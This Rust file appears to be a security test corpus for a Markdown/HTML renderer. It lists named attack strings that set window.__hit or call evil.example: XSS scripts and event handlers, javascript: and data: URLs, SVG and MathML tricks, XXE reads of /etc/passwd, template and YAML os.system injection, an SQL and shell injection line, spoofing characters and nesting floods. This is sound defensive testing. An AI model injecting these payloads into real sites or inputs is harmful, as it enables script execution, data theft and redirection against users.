//! Texts that an attacker would try, each to be put wherever a stranger can write.
//!
//! What runs in spite of everything sets `window.__hit` or opens a dialog; what loads asks `evil.example`.

/// Each with a name for messages.
pub fn payloads() -> Vec<(&'static str, String)> {
    let floods = [
        ("quotes in quotes", "> ".repeat(600) + "deep"),
        ("lists in lists", (0..80).map(|depth| " ".repeat(2 * depth) + "- x\n").collect()),
        ("emphasis in emphasis", "*_".repeat(400) + "x" + &"_*".repeat(400)),
        ("brackets", "[".repeat(800) + &"](x)".repeat(400)),
        ("elements in elements", "<b><div><table>".repeat(200)),
        ("a wide table", format!("|{}\n|{}\n|{}", "a|".repeat(200), "-|".repeat(200), "b|".repeat(200))),
        ("a long table", "|a|b|\n|-|-|\n".to_owned() + &"|[x](https://evil.example)|y|\n".repeat(60)),
        ("many footnotes", (0..60).map(|n| format!("[^{n}] \n\n[^{n}]: x\n\n")).collect()),
        ("one long word", "Unbroken".repeat(600)),
        ("many lines", "x\n".repeat(400)),
        ("marks above marks", "e".to_owned() + &"\u{301}".repeat(500)),
    ];
    SHORT.iter().map(|(name, text)| (*name, (*text).to_owned())).chain(floods).collect()
}

const SHORT: &[(&str, &str)] = &[
    // Scripts.
    ("script", "<script>window.__hit=1;alert(1)</script>"),
    ("script after title", "</title></head><script>window.__hit=1</script>"),
    ("script after script", "</script><script>window.__hit=1</script>"),
    ("script from elsewhere", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script in script", "<scr<script>ipt>window.__hit=1</scr</script>ipt>"),
    ("script with a slash", "<script/x>window.__hit=1</script/x>"),
    ("script in a textarea", "</textarea><script>window.__hit=1</script><textarea>"),
    ("script in a template", "<template><script>window.__hit=1</script></template>"),
    ("script in noscript", "<noscript><p title=\"</noscript><img src=x onerror=window.__hit=1>\">"),
    ("script in a comment", "<!-- --!><script>window.__hit=1</script><!-- -->"),
    // Event handlers, in elements and breaking out of attributes.
    ("broken image", "<img src=x onerror=window.__hit=1>"),
    ("image without quotes", "<img/src=`x`onerror=window.__hit=1>"),
    ("out of a double quote", "\" autofocus onfocus=\"window.__hit=1\" x=\""),
    ("out of a single quote", "' autofocus onfocus='window.__hit=1' x='"),
    ("out of no quote", "x onmouseover=window.__hit=1 tabindex=0 autofocus onfocus=window.__hit=1"),
    ("details", "<details open ontoggle=window.__hit=1>"),
    ("body", "<body onload=window.__hit=1 onpageshow=window.__hit=1>"),
    ("input", "<input autofocus onfocus=window.__hit=1>"),
    (
        "media",
        "<video src=//evil.example/v autoplay onerror=window.__hit=1></video><audio src=//evil.example/a>",
    ),
    ("marquee", "<marquee onstart=window.__hit=1>x</marquee>"),
    // SVG and MathML, where HTML's rules do not apply.
    ("svg", "<svg onload=window.__hit=1><animate onbegin=window.__hit=1 attributeName=x dur=1s></svg>"),
    ("svg script", "<svg><script href=\"data:text/javascript,window.__hit=1\"/></svg>"),
    (
        "svg use",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='window.__hit=1'/></svg>#x\"/></svg>",
    ),
    (
        "svg foreign object",
        "</text></g></svg><svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    ),
    ("svg style", "<svg><style><!--</style><img src=x onerror=window.__hit=1>--></svg>"),
    ("svg title", "</title></a><script>window.__hit=1</script><title>"),
    ("math", "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.__hit=1>"),
    (
        "math link",
        "<math href=\"javascript:window.__hit=1\"><mi xlink:href=\"javascript:window.__hit=1\">x</mi></math>",
    ),
    // Content that loads resources, redirects, or covers the page.
    ("iframe", "<iframe src=\"https://evil.example/\"></iframe>"),
    ("iframe with a document", "<iframe srcdoc=\"<script>parent.__hit=1</script>\"></iframe>"),
    (
        "object",
        "<object data=\"data:text/html,<script>parent.__hit=1</script>\"></object><embed src=//evil.example/x>",
    ),
    ("applet and frames", "<applet code=x><frameset><frame src=//evil.example>"),
    ("refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">"),
    ("weaker policy", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">"),
    ("base", "<base href=\"https://evil.example/\">"),
    ("link", "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/p>"),
    ("form", "<form action=//evil.example><input name=x><button autofocus>Go</button></form>"),
    ("button of another form", "<button form=x formaction=javascript:window.__hit=1>Go</button>"),
    ("style", "<style>*{background:url(//evil.example/s)}@import '//evil.example/i'</style>"),
    ("style attribute", "<p style=\"position:fixed;inset:0;background:url(//evil.example/s)\">covered</p>"),
    ("css", "red;} body{background:url(//evil.example/c)} x{color:expression(window.__hit=1)"),
    ("dialog", "<dialog open><p>Sign in</p></dialog><div popover id=main>x</div>"),
    ("ids of the page", "<a id=main name=main></a><p id=title class=skip>x</p><img name=body>"),
    // URLs.
    ("javascript", "[x](javascript:window.__hit=1)"),
    ("javascript bare", "javascript:window.__hit=1"),
    (
        "javascript in disguise",
        "[x](java&Tab;script:window.__hit=1) [y](&#106;avascript&colon;window.__hit=1) [z](\u{1}javascript:window.__hit=1)",
    ),
    ("javascript by name", "[x][y]\n\n[y]: javascript:window.__hit=1 \"t\"\n\n<javascript:window.__hit=1>"),
    (
        "data",
        "[x](data:text/html;base64,PHNjcmlwdD4=) <a href=\"data:text/html,<script>window.__hit=1</script>\">y</a>",
    ),
    ("vbscript", "[x](vbscript:msgbox(1)) [y](VBScript:x) [z](livescript:x)"),
    ("files", "[x](file:///etc/passwd) ![y](file:///etc/passwd) <file:///etc/passwd>"),
    (
        "another host",
        "[x](//evil.example/x) [y](/\\evil.example) [z](\\\\evil.example\\x) ![i](//evil.example/i.png)",
    ),
    (
        "a relative place",
        "[x](../../../../etc/passwd) [y](?q) [z](#main) [w](index.html) ![i](assets/icon.svg)",
    ),
    ("image", "![x](https://evil.example/t.gif) ![](data:image/svg+xml,<svg onload=window.__hit=1>)"),
    (
        "out of an address",
        "https://evil.example/\"onmouseover=\"window.__hit=1 [x](https://evil.example/'><script>window.__hit=1</script>)",
    ),
    ("user in an address", "https://good.example@evil.example/ [x](https://good.example\\@evil.example)"),
    (
        "reference",
        "## References\n\n- javascript:window.__hit=1 - x\n- //evil.example/x.rs - y\n- `../../etc/passwd:1` - z\n- https://evil.example/<script>",
    ),
    // Entities and closing markers.
    (
        "entities",
        "&lt;script&gt;window.__hit=1&lt;/script&gt; &amp;lt; &#60;script> &#x3C;img src=x onerror=window.__hit=1> &quot; &apos;",
    ),
    ("unknown entities", "&nosuch; &amp &lt &#0; &#x110000; &#xD800; &; & &#"),
    ("cdata", "<![CDATA[<script>window.__hit=1</script>]]> ]]> ]]&gt;"),
    ("comment", "<!-- <!--> --> --!> <!--->"),
    ("open comment", "<!-- never closed"),
    (
        "declarations",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<?php echo 1 ?>",
    ),
    (
        "end of everything",
        "</p></div></article></section></main></body></html><script>window.__hit=1</script>",
    ),
    ("end of code", "</code></pre>```\n</code></pre><script>window.__hit=1</script>\n"),
    ("end of data", "</script><!--<script>\"}]};window.__hit=1//"),
    ("open elements", "<div><p><b><a href=x><table><select><option>"),
    ("text mode", "<plaintext><xmp><title><noembed><noframes>"),
    ("broken tags", "<a href=\"x\" <b> < c <1 </ <! <? <a\"' =="),
    // Markdown syntax that leads to ids, attributes and raw text.
    (
        "footnote ids",
        "[^\"><script>window.__hit=1</script>] [^main]\n\n[^\"><script>window.__hit=1</script>]: x\n\n[^main]: y [^main]",
    ),
    ("heading ids", "# main {#main .skip onclick=window.__hit=1}\n# main\n# <script>\n###### x"),
    (
        "code language",
        "```\"><script>window.__hit=1</script> onload=x\nx\n```\n\n```language-x\" onclick=x\n```",
    ),
    (
        "headings",
        "# findings\n\n## main\n\n## <script>window.__hit=1</script>\n\n### h-main\n\n#### \n\n# [x](javascript:window.__hit=1) `</h2>`\n\n[a](#findings) [b](#h-main)",
    ),
    (
        "code of known languages",
        "```html\n<!-- </code></pre><script>window.__hit=1</script> --> \"<img src=x onerror=window.__hit=1>\n```\n\n```rust\nlet x = \"</span></pre><script>window.__hit=1</script>\"; // <b>\n```",
    ),
    (
        "files with lines",
        "src/a.rs:12 `../../x/y.rs:1` a/\"onclick=window.__hit=1.rs:1 javascript:window/__hit.js:1 //evil.example/x.js:1 a/../../b.js:2 evil.example/x.js:3 `src/<script>.rs:1` x/y.rs:99999999",
    ),
    (
        "link titles",
        "[x](https://evil.example \"\\\" onmouseover=window.__hit=1 x=\\\"\") [y]: https://evil.example '<script>'",
    ),
    (
        "table",
        "| <script> | `|` |\n|:-:|--:|\n| <img src=x onerror=window.__hit=1> | [x](javascript:x) | <b> |",
    ),
    (
        "tasks and alerts",
        "> [!NOTE]\n> <script>window.__hit=1</script>\n\n> [!\"onclick=x]\n> x\n\n- [x] <script>",
    ),
    // The surrounding languages.
    ("jinja", "{{ 1111*1111 }} {% include \"/etc/passwd\" %} {% raw %} {# x #} {%- endblock %}"),
    ("other templates", "${1111*1111} <%= 1111*1111 %> #{1111*1111} {{=1111*1111}} [[x]] *{x}"),
    ("json", "\\u003cscript\\u003e \\\" \"}],\"__proto__\":{\"x\":1},\"y\":[{\" \\"),
    (
        "dot and mermaid",
        "x\"]; evil [URL=\"javascript:window.__hit=1\" label=<<b>x</b>>]; y[\"\nclick A javascript:x\n%%{init: {\"securityLevel\": \"loose\"}}%%\nend",
    ),
    ("yaml", "- !!python/object/apply:os.system [x]\n&a *a\n? |\n  x\n...\n---\n%YAML 9"),
    (
        "git",
        "Subject\n\nReviewed-by: x\nAgent-Id: <script>window.__hit=1</script>\n\u{1b}[31mred\u{1b}]0;title\u{7}",
    ),
    (
        "sql and shell",
        "'; DROP TABLE nodes; -- $(touch x) `touch x` | touch x; %00 %0d%0aSet-Cookie: x ../../x",
    ),
    // Characters.
    ("nul and controls", "a\0b\u{1}c\u{8}d\u{b}e\u{c}f\u{e}g\u{1f}h\u{7f}i\u{80}j\u{9f}k"),
    ("line ends", "a\rb\r\nc\u{85}d\u{2028}e\u{2029}f"),
    ("reversed", "gpj.\u{202e}exe \u{202d}x \u{2066}y \u{2067}z \u{2068}w \u{200e}v \u{200f}u \u{61c}t"),
    ("invisible", "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}\u{180e}\u{3164}"),
    ("tag characters", "x\u{e0001}\u{e0041}\u{e0042}\u{e007f}y"),
    ("not characters", "a\u{fffe}b\u{ffff}c\u{fdd0}d\u{1fffe}e\u{10ffff}f\u{fffd}g"),
    ("look-alikes", "ѕсrірt <\u{ff53}cript> \u{ff1c}script\u{ff1e} https://аррӏе.com"),
    ("right to left", "שלום <b>عربى</b> \u{5d0}\u{5d1} 123"),
    ("outside the plane", "\u{1f3f4}\u{e0067}\u{1f468}\u{200d}\u{1f469} \u{1d49c} \u{20000}"),
    ("empty", ""),
    ("space", " \t\n "),
];

#[cfg(test)]
mod tests {
    #[test]
    fn there_are_enough() {
        assert!(super::payloads().len() >= 60);
    }
}
